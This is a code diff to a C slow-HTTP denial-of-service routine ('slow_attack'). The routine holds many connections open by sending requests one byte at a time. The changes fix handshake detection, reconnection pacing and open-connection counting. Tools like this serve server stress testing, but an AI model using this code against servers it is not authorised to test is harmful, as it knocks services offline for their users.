@@ -62,6 +62,21 @@ static void peer_open(slow_attack *a, int i)
     p->opened = now_s();
 }
 
+/* The handshake is done: the connection counts as made, whether or not the
+ * server keeps it (one over its limits it closes at once). */
+static void peer_connected(slow_attack *a, peer *p)
+{
+    int err = 0;
+    socklen_t len = sizeof err;
+    if (getsockopt(p->fd, SOL_SOCKET, SO_ERROR, &err, &len) != 0 || err != 0) {
+        close(p->fd);
+        p->fd = -1;
+        return;
+    }
+    p->connected = 1;
+    a->st.opened++;
+}
+
 static void peer_closed(slow_attack *a, peer *p)
 {
     if (p->connected) {
@@ -83,13 +98,8 @@ static void peer_send(slow_attack *a, int i)
     const char *req = i % 2 ? a->body_req : a->head_req;
     size_t len = strlen(req);
     char c = p->sent < len ? req[p->sent] : (i % 2 ? ' ' : 'a');
-    if (send(p->fd, &c, 1, MSG_NOSIGNAL) == 1) {
-        if (!p->connected) {
-            p->connected = 1;
-            a->st.opened++;
-        }
+    if (p->connected && send(p->fd, &c, 1, MSG_NOSIGNAL) == 1)
         p->sent++;
-    }
 }
 
 static void *attack(void *arg)
@@ -102,10 +112,11 @@ static void *attack(void *arg)
         int stopping = atomic_load(&a->stop), open = 0;
         if (stopping && end == 0)
             end = now_s() + a->wait_s;
+        int tick = now_s() >= next;
         for (int i = 0; i < a->n; i++) {
-            if (a->p[i].fd < 0 && !stopping)
+            if (a->p[i].fd < 0 && !stopping && tick) /* reopened at the next tick */
                 peer_open(a, i);
-            pf[i] = (struct pollfd){.fd = a->p[i].fd, .events = POLLIN};
+            pf[i] = (struct pollfd){.fd = a->p[i].fd, .events = a->p[i].connected ? POLLIN : POLLOUT};
             open += a->p[i].fd >= 0;
         }
         if (stopping && (open == 0 || now_s() >= end))
@@ -113,8 +124,12 @@ static void *attack(void *arg)
         int wait_ms = (int)((next - now_s()) * 1000);
         if (poll(pf, (nfds_t)a->n, wait_ms > 0 ? wait_ms : 0) > 0)
             for (int i = 0; i < a->n; i++) {
-                if (pf[i].fd < 0 || !(pf[i].revents & (POLLIN | POLLHUP | POLLERR)))
+                if (pf[i].fd < 0 || !(pf[i].revents & (POLLIN | POLLOUT | POLLHUP | POLLERR)))
                     continue;
+                if (!a->p[i].connected) {
+                    peer_connected(a, &a->p[i]);
+                    continue;
+                }
                 ssize_t r = recv(pf[i].fd, buf, sizeof buf, 0);
                 if (r > 0) {
                     a->p[i].got_bytes = 1;
@@ -122,7 +137,7 @@ static void *attack(void *arg)
                     peer_closed(a, &a->p[i]);
                 }
             }
-        if (now_s() >= next) {
+        if (tick) {
             for (int i = 0; i < a->n; i++)
                 if (a->p[i].fd >= 0)
                     peer_send(a, i);
@@ -131,7 +146,7 @@ static void *attack(void *arg)
     }
     for (int i = 0; i < a->n; i++)
         if (a->p[i].fd >= 0) {
-            a->st.open++;
+            a->st.open += a->p[i].connected; /* a handshake never done is no connection */
             close(a->p[i].fd);
         }
     free(pf);
